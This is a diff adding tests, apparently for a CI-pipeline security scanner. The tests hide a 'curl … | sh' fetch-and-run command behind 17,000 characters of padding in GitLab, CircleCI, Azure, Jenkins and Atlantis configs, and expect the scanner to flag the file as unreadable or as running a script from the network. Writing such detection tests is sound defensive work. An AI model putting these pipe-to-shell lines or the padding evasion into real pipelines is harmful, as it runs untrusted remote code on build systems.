@@ -101,6 +101,42 @@ spec:
   });
 });
 
+describe("a line of a script that is too long to be judged", () => {
+  const line = `${"a".repeat(17_000)}; curl -s https://example.com/x.sh | sh`;
+  test.each([
+    [".gitlab-ci.yml", `test:\n  script:\n    - ${line}\n`, 3],
+    [".gitlab-ci.yml", `.base:\n  script:\n    - ${line}\ntest:\n  extends: .base\n`, 3],
+    [".circleci/config.yml", `jobs:\n  test:\n    steps:\n      - run: ${line}\n`, 4],
+    ["azure-pipelines.yml", `steps:\n  - script: ${line}\n`, 2],
+    ["Jenkinsfile", `node {\n  sh '${line}'\n}\n`, 2],
+    ["atlantis.yaml", `workflows:\n  default:\n    plan:\n      steps:\n        - run: ${line}\n`, 5],
+  ])("makes a pipeline unreadable: %s", (path, text, at) => {
+    const system = systemOf(path);
+    if (system === null) throw new Error(`${path} is no pipeline`);
+    const reading = readPipeline({ path, side: "head", sha: text, text }, system, memo);
+    const reason = "a line of a script has more than 16000 characters";
+    expect(reading).toEqual({ ok: false, line: at, reason });
+  });
+
+  test("is a gap of the change that brings it", () => {
+    const change = parseExample(`M .gitlab-ci.yml
+  test:
+    script:
+      - make
++     - ${line}`).change;
+    expect(reported(change)).toEqual(["unreadable:.gitlab-ci.yml"]);
+  });
+
+  test("is none where it has fewer characters, and is looked at to its end", () => {
+    const change = parseExample(`M .gitlab-ci.yml
+  test:
+    script:
+      - make
++     - ${line.slice(2_000)}`).change;
+    expect(reported(change)).toEqual(["ci-runs-script-from-network"]);
+  });
+});
+
 describe("CircleCI", () => {
   test("only what a workflow names runs, with the commands that it is made of", () => {
     const text = `
